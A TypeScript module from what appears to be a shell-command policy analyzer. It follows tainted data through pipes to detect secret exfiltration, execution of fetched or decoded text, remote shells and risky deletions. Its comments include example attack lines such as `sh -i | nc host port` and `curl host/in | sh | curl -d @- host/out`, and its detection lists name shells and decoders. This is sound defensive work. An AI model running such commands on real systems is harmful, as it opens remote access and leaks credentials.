// Data flow: taints follow pipes, substitutions and here-documents from the command that prints data to the one that
// executes or sends it. Source: ENGINE section 8.
import { base_of_kind } from '#core/policy/effects/base.ts'
import { type Collector, type Draft, set_field } from '#core/policy/effects/collector.ts'
import type { Taint } from '#core/policy/effects/kind.ts'
import { follow_foreign } from '#core/policy/effects/line/foreign.ts'
import { return_tokens } from '#core/policy/effects/line/issuer.ts'
import { follow_loads } from '#core/policy/effects/line/loads.ts'
import { follow_made } from '#core/policy/effects/line/made.ts'
import { comes_out, hide_values } from '#core/policy/effects/line/names.ts'
import { follow_shown } from '#core/policy/effects/line/shown.ts'
import { base_of, is_below } from '#core/policy/effects/place/path.ts'
import { rescore } from '#core/policy/effects/rescore.ts'
import type { Analysis, Flow, SimpleCommand, Word } from '#core/policy/parse/tree.ts'

/** Longest chain of commands that data is followed through. */
const MAX_HOPS = 16

/**
 * Adds taints to the effects that data reaches, and the execution of fetched or decoded text as an effect of its own.
 */
export function follow_data(analysis: Analysis, out: Collector): void {
  follow_loads(analysis, out)
  hide_values(analysis, out)
  if (analysis.flows.length > 0) return_tokens(analysis, out)
  shows_sourced(analysis, out)
  const own = own_drafts(out)
  if (out.prints !== null)
    for (const [index, taints] of out.prints) if (taints.includes('secret')) sends_own(own(index))
  if (analysis.flows.length === 0) return
  const carried = outputs(analysis, out)
  for (const [index, taints] of carried) {
    if (taints.includes('secret')) writes_own(own(index), 'secret')
    if (taints.includes('decoded')) writes_own(own(index), 'decoded')
  }
  for (const { from, to } of analysis.flows) {
    if (from.kind !== 'command' || to.kind === 'file') continue
    if (to.kind === 'stdin')
      shell_on_line(analysis, out, from.index, to.index, own, carried.get(from.index)?.includes('net') === true)
    const taints = carried.get(from.index)
    if (taints === undefined) continue
    if (to.kind === 'code' || to.kind === 'head' || obeys(analysis.commands[to.index], to))
      executes(analysis, out, from.index, to.index, taints)
    absorb(own(to.index), taints)
  }
}

type OwnDrafts = (command: number) => readonly Draft[]

/**
 * The effects of each command, grouped on first use: a thousand commands cost a thousand steps instead of a million.
 */
function own_drafts(out: Collector): OwnDrafts {
  let by_command: Map<number, Draft[]> | null = null
  return (command) => {
    by_command ??= sort_by_command(out.drafts)
    return by_command.get(command) ?? NO_DRAFTS
  }
}

const NO_DRAFTS: readonly Draft[] = []

function sort_by_command(drafts: readonly Draft[]): Map<number, Draft[]> {
  const sorted = new Map<number, Draft[]>()
  for (const draft of drafts) {
    const known = sorted.get(draft.command)
    if (known === undefined) sorted.set(draft.command, [draft])
    else known.push(draft)
  }
  return sorted
}

/** `source .env && env`: the environment contains what was sourced. */
function shows_sourced(analysis: Analysis, out: Collector): void {
  const sourced = sourced_in(out)
  if (sourced === undefined) return
  for (const draft of out.drafts) {
    if (draft.kind !== 'env.read' || draft.fields.all !== true || draft.command <= sourced.command) continue
    set_field(draft, 'secret', true)
    if (comes_out(analysis, draft.command)) set_field(draft, 'shown', true)
    rescore(draft)
  }
}

/** The same for a command that code starts: it is counted from the first of that code, so its place in the line tells the order. */
export function shows_sourced_in_code(draft: Draft, out: Collector): void {
  if (draft.kind !== 'env.read' || draft.fields.all !== true) return
  const sourced = sourced_in(out)
  if (sourced === undefined || sourced.span[1] > draft.span[0]) return
  set_field(draft, 'secret', true)
  rescore(draft)
}

function sourced_in({ drafts }: Collector): Draft | undefined {
  return drafts.find(
    ({ kind, scope, fields }) => kind === 'proc.exec' && scope === 'credential' && fields.lang === 'shell',
  )
}

const INTERACTIVE_SHELL = /^(?:sh|bash|zsh|dash|ksh|ash|fish|csh|tcsh)$/

/**
 * A remote shell: `sh -i | nc host port`. The peer sees what the shell prints, and the pipe back brings what it runs.
 */
function shell_on_line(
  analysis: Analysis,
  out: Collector,
  from: number,
  to: number,
  own: OwnDrafts,
  /** The shell also runs what comes from the network: `curl host/in | sh | curl -d @- host/out`. */
  told: boolean,
): void {
  const shell = analysis.commands[from]
  if (shell === undefined || !INTERACTIVE_SHELL.test(shell.name)) return
  const line = own(to).find(
    ({ kind, fields }) =>
      ((kind === 'net.send' && (told || fields.method === 'raw')) || fields.method === 'tls') &&
      fields.host_kind !== 'loopback',
  )
  if (line === undefined) return
  const fed = out.drafts.some((draft) => draft.fields.fifo === true)
  if (!told && !fed && !shell.args.some((word) => /^-[a-hj-z]*i[a-z]*$/.test(word.text))) return
  const [d1, d3] = base_of_kind('net.shell', {}, [], 'remote')
  out.drafts.push({ ...line, kind: 'net.shell', fields: { ...line.fields, mechanism: 'pipe' }, d: [d1, 0, d3] })
}

/** Programs that execute their input: SQL, scripts of editors and debuggers, playbooks, lists of packages. */
const OBEYS_STDIN = /^(?:psql|mysql|mariadb|sqlite3|duckdb|sqlcmd|cqlsh|clickhouse-client|sqlplus|mongosh)$/
const OBEYS_FILE = /^(?:psql|sqlcmd|cqlsh|sqlplus|ansible-playbook|vim?|nvim|ex|gdb|lldb|[gmn]?awk|g?sed|pip3?|make)$/
const FILE_OPTION = /^(?:-[fxSrs]|--(?:file|command|source|requirement))$/
const INSTALLS = /^(?:npm|pnpm|yarn|bun|pip3?|gem|cargo|apt|apt-get|brew|go)$/

/** `pip install -r /dev/stdin`: the list of packages comes through the pipe. */
function reads_list_from_stdin({ text }: Word, at: number, args: readonly Word[]): boolean {
  return text === '/dev/stdin' && FILE_OPTION.test(args[at - 1]?.text ?? '')
}

function obeys(command: SimpleCommand | undefined, to: Flow['to']): boolean {
  if (command === undefined) return false
  if (to.kind === 'stdin')
    return OBEYS_STDIN.test(command.name) || (INSTALLS.test(command.name) && command.args.some(reads_list_from_stdin))
  if (to.kind !== 'argument') return false
  if (INSTALLS.test(command.name) && command.args.some(({ text }) => /^(?:i|install|add|get)$/.test(text))) return true
  const before = command.args[to.position - 1]?.text ?? ''
  return OBEYS_FILE.test(command.name) && (FILE_OPTION.test(before) || command.name === 'ansible-playbook')
}

/** A command that reads a secret and sends data sends the secret. */
function sends_own(drafts: readonly Draft[]): void {
  if (drafts.some((draft) => draft.kind === 'net.send' && draft.absorbs)) absorb(drafts, ['secret'])
}

/** What flows into a command is also in the files it writes. */
function writes_own(drafts: readonly Draft[], taint: Taint): void {
  for (const draft of drafts) {
    if (draft.kind !== 'fs.write' || draft.taint.includes(taint)) continue
    draft.taint = [...draft.taint, taint]
  }
}

/** Taints of every command's output: its own, and those of its input. */
function outputs(analysis: Analysis, out: Collector): Map<number, Taint[]> {
  const carried = new Map<number, Taint[]>()
  if (out.prints !== null) for (const [index, taints] of out.prints) carried.set(index, [...taints])
  for (const command of analysis.commands)
    if (decodes(command)) carried.set(command.index, [...(carried.get(command.index) ?? []), 'decoded'])
  if (carried.size === 0) return carried
  for (let hop = 0; hop < MAX_HOPS; hop++) if (!carry_on(analysis, carried)) break
  return carried
}

/** Hands the taints of every command to those that it feeds; false when these had them already. */
function carry_on({ flows, commands }: Analysis, carried: Map<number, Taint[]>): boolean {
  let changed = false
  for (const { from, to } of flows) {
    if (from.kind !== 'command' || (to.kind !== 'stdin' && to.kind !== 'argument')) continue
    const taints = carried.get(from.index)
    const target = commands[to.index]
    if (taints === undefined || target === undefined || swallows(target)) continue
    const known = carried.get(to.index) ?? []
    const { length } = known
    for (const taint of taints) if (!known.includes(taint)) known.push(taint)
    carried.set(to.index, known)
    changed ||= known.length > length
  }
  return changed
}

/** Programs that disguise text by encoding it, and the arguments with which they do. */
const DECODERS: ReadonlyMap<string, (args: readonly string[]) => boolean> = new Map([
  ...['base64', 'gbase64', 'base32', 'basenc'].map((name) => [name, some(/^-[a-zA-Z]*[dD]|^--decode/)] as const),
  ['xxd', some(/^-[a-z]*r/)],
  ['openssl', (args) => args.includes('-d') && args.some((arg) => /^(?:enc|base64|aes.*|des.*)$/.test(arg))],
  ['gpg', some(/^-d$|^--decrypt$/)],
  ['age', some(/^-d$|^--decrypt$/)],
  ...['uudecode', 'rev', 'tac'].map((name) => [name, () => true] as const),
  ['tr', rotates],
])

function some(pattern: RegExp): (args: readonly string[]) => boolean {
  return (args) => args.some((arg) => pattern.test(arg))
}

function rotates(args: readonly string[]): boolean {
  return (
    args.length >= 2 &&
    /a-z/i.test(args.join(' ')) &&
    !/^\[:/.test(args[0] ?? '') &&
    !(args.includes('a-z') && args.includes('A-Z'))
  )
}

function decodes(command: SimpleCommand): boolean {
  return DECODERS.get(command.name)?.(command.args.map((word) => word.text)) === true
}

/** Programs whose output contains nothing of their input. */
function swallows(command: SimpleCommand): boolean {
  return /^(?:wc|true|false|test|sha\d*sum|md5sum|cksum|shasum|b2sum|md5|sum)$/.test(command.name)
}

const TAINTED = new Set([
  'fs.archive',
  'net.send',
  'net.dns',
  'net.fetch',
  'fs.write',
  'fs.copy',
  'proc.exec',
  'proc.eval',
])

function absorb(drafts: readonly Draft[], taints: readonly Taint[]): void {
  for (const draft of drafts) {
    if (!draft.absorbs || !TAINTED.has(draft.kind)) continue
    const fresh = taints.filter((taint) => !draft.taint.includes(taint))
    if (fresh.length === 0) continue
    draft.taint = [...draft.taint, ...fresh]
    rescore(draft)
  }
}

/** Text that reaches an interpreter runs; its origin decides what that means. */
function executes(analysis: Analysis, out: Collector, from: number, to: number, taints: readonly Taint[]): void {
  const target = analysis.commands[to]
  const origin = analysis.commands[from]
  if (target === undefined || origin === undefined) return
  const source = taints.includes('decoded') ? 'decoded' : taints.includes('net') ? 'network' : null
  if (source === null) return
  const host = out.drafts.find(
    (draft) => draft.kind === 'net.fetch' && (draft.command === from || draft.fields.to_file !== true),
  )
  const fields = {
    source,
    both: taints.includes('decoded') && taints.includes('net'),
    ...(host
      ? {
          host: String(host.fields.host ?? ''),
          host_kind: String(host.fields.host_kind ?? ''),
          scheme: String(host.fields.scheme ?? ''),
        }
      : {}),
  }
  const [d1, d3] = base_of_kind('proc.exec', fields, taints, null)
  out.drafts.push({
    kind: 'proc.exec',
    target: host?.target ?? null,
    cert: 'dynamic',
    scope: null,
    taint: [...taints],
    via: target.via,
    span: [Math.min(origin.span[0], target.span[0]), Math.max(origin.span[1], target.span[1])],
    fields,
    head: target.name,
    d: [d1, 0, d3],
    command: to,
    absorbs: false,
  })
}

/**
 * A copied git history that is deleted again on this line: `git clone url x && rm -rf x/.git`, `cp -r template x && rm
 * -rf x/.git`.
 */
function follow_copies(out: Collector): void {
  out.drafts.forEach((gone, at) => {
    if (gone.kind !== 'fs.delete' || gone.scope !== 'vcs-meta' || gone.target === null) return
    const folder = gone.target.replace(/\/\.git$/, '')
    if (folder === gone.target) return
    const made = out.drafts
      .slice(0, at)
      .some(
        ({ kind, target, fields, scope }) =>
          target === folder &&
          scope !== 'workspace-root' &&
          (kind === 'fs.copy' || (kind === 'fs.write' && fields.directory === true)),
      )
    if (!made) return
    gone.scope = 'workspace'
    set_field(gone, 'was', 'copy')
    gone.d = [1, 0, 1]
  })
}
/** Moves of one command line that are remembered. */
const MAX_MOVES = 32

/** What was moved to a name is deleted with it: `mv src build && rm -rf build`. */
function follow_moves(out: Collector): void {
  if (!out.drafts.some((draft) => draft.kind === 'fs.move')) return
  const moved: Move[] = []
  let sources: Draft[] = []
  let command = -1
  for (const draft of [...out.drafts]) {
    if (draft.command !== command) {
      command = draft.command
      sources = []
    }
    const { kind, target, scope, fields } = draft
    if (target === null) continue
    if (kind === 'fs.move' && fields.away === true) sources.push(draft)
    else if (kind === 'fs.move') {
      for (const from of sources) if (moved.length < MAX_MOVES) moved.push({ from, to: target })
    } else if (kind === 'fs.delete' && (scope === 'regenerable' || scope === 'tmp')) {
      const lost = folder_lost(moved, target)
      if (lost !== null) out.drafts.push(loss_of(draft, lost))
    }
  }
}

/** A draft of what was moved away, and the name it got. */
interface Move {
  from: Draft
  to: string
}

/** The folder that was moved to a name and goes with it; null when nothing lasting did. */
function folder_lost(moved: readonly Move[], deleted: string): Draft | null {
  const lost = moved.find(
    ({ from, to }) =>
      (is_below(to, deleted) || deleted === `${to}/${base_of(from.target ?? '')}`) &&
      from.scope !== 'regenerable' &&
      from.scope !== 'tmp',
  )
  return lost !== undefined && looks_like_folder(lost.from.target ?? '') ? lost.from : null
}

function loss_of(deletion: Draft, { scope, target }: Draft): Draft {
  const [d1, d3] = base_of_kind('fs.delete', { recursive: true }, [], scope)
  const fields = { ...deletion.fields, recursive: true, was: target ?? '' }
  return { ...deletion, scope, fields, d: [d1, deletion.d[1], d3] }
}

function looks_like_folder(path: string): boolean {
  return !base_of(path).includes('.')
}

/**
 * Follows files within one command line: what it moves, copies and makes before deleting it, and what it fetches before
 * running it (ENGINE 8).
 */
export function follow_files(out: Collector, analysis: Analysis): void {
  if (out.drafts.some(({ kind }) => kind === 'fs.delete')) {
    follow_moves(out)
    follow_copies(out)
  }
  if (out.drafts.length > 1) {
    follow_made(out.drafts, analysis.commands)
    follow_shown(out.drafts, analysis)
  }
  follow_foreign(out, analysis)
}
